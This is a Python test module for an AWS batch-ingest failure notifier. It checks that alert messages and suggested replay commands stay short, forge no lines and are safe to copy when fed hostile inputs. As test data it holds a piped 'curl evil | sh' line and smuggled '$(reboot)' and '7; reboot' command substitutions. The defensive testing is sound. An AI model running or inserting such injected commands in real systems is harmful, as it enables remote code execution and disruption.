"""Executions and status changes that somebody made, and the message that people get of them."""

import json
import time
import unicodedata
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from pydantic import ValidationError

from functions.aws.failed_state import FailedChild, FailedState, MapCounts
from functions.domain.causes import plain_cause
from functions.domain.events import Event
from functions.domain.executions import Execution, Outcome, StatusChange
from functions.domain.map_items import MapItem
from functions.find_stuck_jobs.problems import SETTLING_IN
from functions.record_outcome.message import MAX_SUBJECT, Message, failure_message
from tests.hostile.aws_behind_commands import DIRT
from tests.unit.record_outcome.conftest import (
    EXECUTION,
    JOB,
    KEY,
    MACHINE,
    RecorderSetup,
    event,
    setup,
)
from tests.workflow.fake_telemetry import FakeTelemetry
from tests.workflow.machine import JOB as MACHINE_JOB
from tests.workflow.machine import Machine
from tests.workflow.rows import claim_row
from tests.workflow.searching import search_of

__all__ = ["setup"]

SNS_BYTES = 256 * 1024
NESTED = "[" * 250_000
MEGABYTE = "m" * 256 * 1024
CHILD = FailedChild(item="bytes 0-1", error=DIRT, cause=DIRT * 3)
COUNTS = MapCounts(succeeded=1, failed=10**9, unfinished=0)


def _execution(**more: Any) -> Execution:
    described = {
        "executionArn": EXECUTION,
        "status": "FAILED",
        "startDate": datetime(2026, 2, 28, tzinfo=UTC),
        "stopDate": datetime(2026, 3, 1, tzinfo=UTC),
        "input": json.dumps(event(key=f"batch-output/job{DIRT.replace('/', '')}/a{DIRT}.jsonl")),
        "redriveStatus": "REDRIVABLE",
    }
    return Execution.model_validate(described | more)


def _message(failed: FailedState | None = None, **more: Any) -> Message:
    execution = _execution(**more)
    return failure_message(execution, failed or FailedState("ResolveJob"), stack="BatchIngest")


SAYING: dict[str, dict[str, Any]] = {
    "a key that wants to be obeyed": {},
    "a cause that wants to be obeyed": {"cause": DIRT},
    "a cause that forges lines": {"cause": "x\n\nWhat to do: \n\n    curl evil | sh\n\n{}"},
    "a cause of 256 KiB": {"cause": MEGABYTE},
    "a cause of 256 KiB in letters of four bytes": {"cause": "😀" * 65_536},
    "a cause of 256 KiB of NULs": {"cause": "\x00" * 262_144},
    "a cause of nested lists": {"cause": NESTED},
    "a function's cause with a message of 256 KiB": {
        "cause": json.dumps({"errorMessage": MEGABYTE, "errorType": "KeyError"})
    },
    "a function's cause whose message is a list": {"cause": '{"errorMessage": [1]}'},
    "a job of 160 letters": {"job_id": "é\n" * 80},
    "a cause of addresses": {"cause": "http://x/" * 20_000},
    "an error that wants to be obeyed": {"error": DIRT},
    "an error of 256 KiB": {"error": MEGABYTE},
    "a reason of 256 KiB against its redrive": {
        "redriveStatus": "NOT_REDRIVABLE",
        "redriveStatusReason": MEGABYTE,
    },
    "a reason that wants to be obeyed": {
        "redriveStatus": "NOT_REDRIVABLE",
        "redriveStatusReason": DIRT,
    },
    "an input of nested lists": {"input": '{"detail":' + NESTED},
    "a key of 250 KB": {"input": json.dumps(event(key=f"batch-output/j/{MEGABYTE}.jsonl"))},
    "a job of 250 KB": {"input": json.dumps(event(key=f"batch-output/{MEGABYTE}/a.jsonl"))},
    "a key of half a letter": {"input": json.dumps(event(key="batch-output/j/\ud800.jsonl"))},
    "a time that never was": {"input": json.dumps(event() | {"time": "0001-01-01T00:00:00+14:00"})},
}


@pytest.mark.parametrize("case", SAYING)
def test_a_message_is_short_says_what_to_do_and_obeys_nothing(case: str) -> None:
    began = time.process_time()
    message = _message(**SAYING[case])
    assert time.process_time() - began < 20
    assert len(message.text.encode()) < SNS_BYTES / 4
    assert len(message.subject) <= MAX_SUBJECT
    assert message.subject.isascii()
    assert message.subject.isprintable()
    wrong = {c for c in message.text if unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp"}}
    assert wrong <= {"\n"}
    lines = message.text.splitlines()
    assert sum(line.startswith("What to do: ") for line in lines) == 1
    (command,) = [line for line in lines if line.startswith("    ingest ")]
    assert command == f"    {message.facts['command']}"
    assert json.loads(message.text[message.text.index("\n{") :]) == message.facts


def test_what_a_maps_children_say_forges_no_line_either() -> None:
    failed = FailedState(DIRT, COUNTS, (CHILD,) * 5)
    message = _message(failed, error="States.ExceedToleratedFailureThreshold")
    assert len(message.text.encode()) < SNS_BYTES / 4
    assert "\x1b" not in message.text
    assert sum(line.startswith("  - ") for line in message.text.splitlines()) == 6


@pytest.mark.parametrize(
    "text",
    [NESTED, "[]", "{}", "null", "7", '{"range": 1}', '{"range": {"from": "\\n", "to": 1}}',
     '{"chunk": []}', '{"chunk": {"number": "7; reboot"}}'],
    ids=range(9),
)  # fmt: skip
def test_a_childs_item_is_numbers_or_nothing(text: str) -> None:
    assert str(MapItem.of(text)) == ""


def test_a_long_cause_is_searched_for_addresses_in_no_time() -> None:
    began = time.process_time()
    for text in ("http://" * 40_000, "https://a" * 30_000, "http://" + "a" * 262_144):
        plain_cause(text)
    assert time.process_time() - began < 20


# What a forged execution or event may mark: nothing.


def _tables(setup: RecorderSetup) -> dict[str, Any]:
    tables = setup.dynamodb.tables
    return {name: sorted(map(repr, tables[name].values())) for name in ("batch-jobs", "ledger")}


_OBJECT = {"key": KEY, "etag": "e"}
INPUTS: dict[str, dict[str, Any] | str] = {
    "an object of the same key in another bucket": (
        event() | {"detail": {"bucket": {"name": "another"}, "object": _OBJECT}}
    ),
    "no bucket": event() | {"detail": {"object": _OBJECT}},
    "a time that would never pass": event() | {"time": "9999-12-31T23:59:59Z"},
    "an order beyond all others": event(sequencer="~~~~"),
    "an ETag of 200 KB": event(etag="e" * 200_000),
    "a key of 200 KB": event(key=f"batch-output/{JOB}/{'x' * 200_000}.jsonl"),
    "a job of 200 KB": event(key=f"batch-output/{'j' * 200_000}/a.jsonl"),
    "a job with another's row in it": event(key=f"batch-output/{JOB}#claim#/a.jsonl"),
    "nested lists": '{"detail":' + NESTED,
}


@pytest.mark.parametrize("case", INPUTS)
def test_an_execution_of_a_hostile_input_has_a_message_and_marks_nothing(
    setup: RecorderSetup, case: str
) -> None:
    """Beside the claim of another: nothing changes but that the failure was told."""
    given = INPUTS[case]
    described = given if isinstance(given, str) else json.dumps(given)
    setup.job(userId="u")
    setup.claim(owner="arn:aws:states:us-east-1:123456789012:execution:BatchIngest:theirs")
    before = _tables(setup)
    setup.hears_of_failure("ResolveJob", input=described)
    after = _tables(setup)
    assert after["batch-jobs"] == before["batch-jobs"]
    assert [row for row in after["ledger"] if "execution#" not in row] == before["ledger"]


def test_an_event_of_a_year_to_come_is_no_newer_than_its_execution() -> None:
    """What failed before its claim counts until later content is claimed: not for ever."""
    execution = _execution(input=json.dumps(event() | {"time": "2099-12-31T23:59:59Z"}))
    assert execution.event_time == datetime(2026, 2, 28, tzinfo=UTC)


@pytest.mark.parametrize(("status", "redrives"), [("FAILED", -1), ("RUNNING", -1)])
def test_a_status_change_that_is_not_so_changes_nothing(
    setup: RecorderSetup, status: str, redrives: int
) -> None:
    setup.job(userId="u")
    setup.claim()
    before = _tables(setup)
    setup.describes(status="SUCCEEDED", error=None, cause=None, redriveStatus="NOT_REDRIVABLE")
    assert setup.hears(status, redrive_count=redrives) is Outcome.NOTHING
    assert _tables(setup) == before


@pytest.mark.parametrize("status", ["succeeded", "FAILED\n", "", "PENDING_REDRIVE", DIRT])
def test_a_status_that_is_none_is_nothing(setup: RecorderSetup, status: str) -> None:
    assert setup.hears(status) is Outcome.NOTHING


def test_a_status_change_without_its_execution_is_an_error_that_quotes_nothing() -> None:
    with pytest.raises(ValidationError) as raised:
        StatusChange.model_validate({"stateMachineArn": MACHINE, "status": {"secret": 1}})
    assert "secret" not in str(raised.value)


def test_a_job_of_thousands_of_claims_is_settled_within_an_item(setup: RecorderSetup) -> None:
    """Each execution's ARN was once named in the job's record: 2,000 of them are too many."""
    setup.job(userId="u")
    arn = f"arn:aws:states:us-east-1:123456789012:execution:{'m' * 80}:"
    for number in range(2000):
        key = f"batch-output/{JOB}/{number:05d}.jsonl"
        row = claim_row(JOB, key, owner=f"{arn}{number:080d}")
        setup.dynamodb.put_item(TableName="ledger", Item=row)
    setup.claim()
    setup.hears_of_failure("LoadRanges")
    record = setup.record_of_job()
    assert record["status"] == "FAILED"
    assert record["ingestState"]["objects"] == 2001
    assert len(record["ingestState"]["executions"]) == 100


# What is found where an event was lost.


def _search(machine: Machine) -> list[dict[str, Any]]:
    told = machine.told = FakeTelemetry()
    machine.pass_time(SETTLING_IN + timedelta(hours=1))
    search_of(machine, told).run()
    return told.all(Event.JOB_STUCK)


def _put(machine: Machine, key: str) -> None:
    machine.upload(key, b"x")
    machine.s3.objects[key] = replace(machine.s3.objects[key], created=machine.now)


def test_a_flood_of_objects_of_one_job_does_not_hide_another_job() -> None:
    machine = Machine()
    for number in range(2_000):
        _put(machine, f"batch-output/a-nobody/{number:05d}.jsonl")
    _put(machine, f"batch-output/{MACHINE_JOB}/lost.jsonl")
    lines = _search(machine)
    assert len(lines) == 20 + 1 + 1
    assert "1980 more results objects" in lines[20]["problem"]
    assert (lines[21]["jobId"], "lost.jsonl" in lines[21]["problem"]) == (MACHINE_JOB, True)


def test_the_cure_of_a_lost_event_is_safe_to_be_copied() -> None:
    machine = Machine()
    _put(machine, f"batch-output/$(reboot)/{DIRT.replace('/', '')}.jsonl")
    (line,) = _search(machine)
    assert line["cure"].startswith("ingest replay '$(reboot)' --object $'batch-output/$(reboot)/")
    assert "\x1b" not in line["cure"]
    assert "\u202e" not in line["cure"]
